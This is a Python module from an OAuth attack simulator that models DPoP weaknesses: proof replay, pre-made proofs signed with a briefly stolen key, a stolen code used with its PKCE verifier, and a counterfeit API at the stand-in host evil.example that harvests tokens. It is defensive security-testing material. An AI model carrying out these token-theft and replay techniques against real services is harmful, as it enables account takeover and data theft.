"""Proofs of a key that are copied, made beforehand, or made with the wrong key (RFC 9449 §11)."""

from __future__ import annotations

from oauthsim.attacks import crafted
from oauthsim.attacks.crafted import EVENTS
from oauthsim.attacks.goals import reads_alices_data
from oauthsim.attacks.leaks.bound_token import CONNECTS, SHOULD_ONLY
from oauthsim.attacks.registry import attack
from oauthsim.leaks import crash_dump, screenshot
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.authorization_code import connect, press, run_by_hand
from oauthsim.scenarios.messages import from_to, redirect_carrying, request_to, token_request
from oauthsim.scenarios.refresh_token import stolen_refresh_token
from oauthsim.scenarios.sender_constrained import copied_proof
from oauthsim.staging import lose, use_api
from oauthsim.world import APP, ISSUER, World

DAY = 86_400
BOUND = (
    "dpop-proofs-are-sent",
    "access-tokens-are-bound-to-a-key",
    "bound-tokens-come-with-their-proof",
    "api-proof-is-valid",
)
AT_THE_CALENDAR = from_to("attacker", "calendar")


@attack(
    "dpop-proof-replay",
    title="A proof that is sent twice",
    spec="RFC 9449 §11.1",
    catalogue=("ATT-22",),
    goal=reads_alices_data,
    given=BOUND,
    stopped_by=("api-proof-is-used-once",),
    does_not_help=("api-proof-is-for-this-call", "api-proof-names-its-token", "api-proof-is-recent"),
    gets_through={"rfc9700": SHOULD_ONLY},
    steps=(
        CONNECTS,
        Step("Mallory has copied one call, token and proof, and sends it again", AT_THE_CALENDAR),
    ),
)
def dpop_proof_replay(world: World) -> None:
    """Mallory has no key, but a copy of a whole call: the same token with the same proof."""
    connect(world, "Calendar")
    run_by_hand(world, "Show today's events")
    token = crash_dump(world, "calendar", "calendar")
    try:
        world.mallory.call_with(EVENTS, token, copied_proof(world))
    except Stopped:  # there is no proof, so none is needed
        crafted.call_calendar(world, token)


@attack(
    "pre-made-dpop-proofs",
    title="Proofs made today for tomorrow",
    spec="RFC 9449 §11.2",
    catalogue=("ATT-23",),
    goal=reads_alices_data,
    client="public",
    given=(*BOUND, "dpop-proof-is-valid", "refresh-tokens-of-public-clients-are-bound-to-a-key"),
    stopped_by=(
        "dpop-proof-has-a-fresh-nonce",
        "api-proof-has-a-fresh-nonce",
        "api-proof-names-its-token",
    ),
    does_not_help=("dpop-proof-is-recent", "api-proof-is-recent", "api-proof-is-used-once"),
    gets_through={"rfc9700": SHOULD_ONLY},
    steps=(
        CONNECTS,
        Step(
            "A day later: a proof that was made yesterday brings a new token", token_request("refresh_token")
        ),
        Step("And another one opens the calendar", AT_THE_CALENDAR),
    ),
)
def pre_made_proofs(world: World) -> None:
    """Mallory had the client's key in her hands for a moment, and signed proofs for the next day with it."""
    connect(world, "Calendar")
    stolen = stolen_refresh_token(world)
    mallory, tomorrow = world.mallory, world.clock.now + DAY
    key = world.client.proofs.key
    for_the_token = mallory.proof("POST", f"{ISSUER}/token", key=key, made_at=tomorrow)
    for_the_call = mallory.proof("GET", EVENTS, key=key, made_at=tomorrow)
    world.leak("a proof for tomorrow", "she used the client's machine for a moment", for_the_token)
    world.leak("another one", "she used the client's machine for a moment", for_the_call)
    world.advance(DAY)
    form = {"grant_type": "refresh_token", "refresh_token": stolen, "client_id": crafted.CLIENT_ID}
    answer = mallory.http.post(f"{ISSUER}/token", data=form, headers={"DPoP": for_the_token})
    token = crafted.member(answer, "access_token")
    if crafted.member(answer, "token_type") == "DPoP":
        mallory.call_with(EVENTS, token, for_the_call)
    else:
        crafted.call_calendar(world, token)


@attack(
    "code-stolen-with-its-verifier",
    title="A code and its verifier, both stolen",
    spec="RFC 9449 §10",
    catalogue=("ATT-83",),
    goal=reads_alices_data,
    client="public",
    given=(*BOUND, "pkce-is-sent", "dpop-proof-is-valid"),
    stopped_by=("code-is-bound-to-the-dpop-key",),
    does_not_help=(
        "code-verifier-fits-the-challenge",
        "code-is-single-use",
        "token-requests-come-with-a-dpop-proof",
    ),
    gets_through={"rfc9700": SHOULD_ONLY},
    steps=(
        Step("Alice connects her calendar; a script of Mallory's runs in the client", request_to("/")),
        Step("It reads the code, and the verifier beside it", redirect_carrying("code")),
        Step(
            "She redeems both, with a proof of a key of her own", from_to("attacker", "authorization_server")
        ),
        Step("The token is bound, to her key", AT_THE_CALENDAR),
    ),
)
def code_and_verifier(world: World) -> None:
    """Mallory has code and verifier, so PKCE is no help; the token that she gets is bound to her key."""
    world.browser.open(f"{APP}/")
    press(world, "Connect Calendar")
    lose(world, request_to("/callback"))
    world.alice.answer_pages()
    code = screenshot(world, "code")
    if not code:
        raise Stopped("no code has come to Mallory")
    verifier = next((flow.code_verifier for flow in world.client.flows if flow.code_verifier), "")
    how = "it stands in the client's session, where a script of hers can read it"
    form = {
        "grant_type": "authorization_code",
        "code": code,
        "redirect_uri": world.client.registration.redirect_uri,
        "client_id": crafted.CLIENT_ID,
        "code_verifier": world.leak("the code_verifier", how, verifier),
    }
    endpoint = f"{ISSUER}/token"
    proof = world.mallory.proof("POST", endpoint)
    answer = world.mallory.http.post(endpoint, data=form, headers={"DPoP": proof})
    token = crafted.member(answer, "access_token")
    if crafted.member(answer, "token_type") == "DPoP":
        world.mallory.call_with_proof(EVENTS, token)
    else:
        crafted.call_calendar(world, token)


@attack(
    "counterfeit-api",
    title="An API that only collects tokens",
    spec="RFC 9700 §4.9.1",
    catalogue=("ATT-19",),
    goal=reads_alices_data,
    given=("dpop-proofs-are-sent", "access-tokens-are-bound-to-a-key"),
    stopped_by=("bound-tokens-come-with-their-proof",),
    does_not_help=("token-has-not-expired", "scope-covers-the-operation", "tokens-are-encrypted-at-rest"),
    gets_through={"rfc9700": SHOULD_ONLY},
    steps=(
        Step("Alice was told to enter another address for her calendar, and connects it", request_to("/")),
        Step("So the client brings the token to Mallory", from_to("client", "attacker")),
        Step("She takes it to the real calendar", AT_THE_CALENDAR),
    ),
)
def counterfeit_api(world: World) -> None:
    """The client lets people say where their calendar is; Alice was talked into an address of Mallory's."""
    use_api(world, "calendar", "https://evil.example")
    world.mallory.serve("/events", '{"events": []}', content_type="application/json")
    connect(world, "Calendar")
    run_by_hand(world, "Show today's events")
    crafted.call_calendar(world, world.mallory.token_presented())
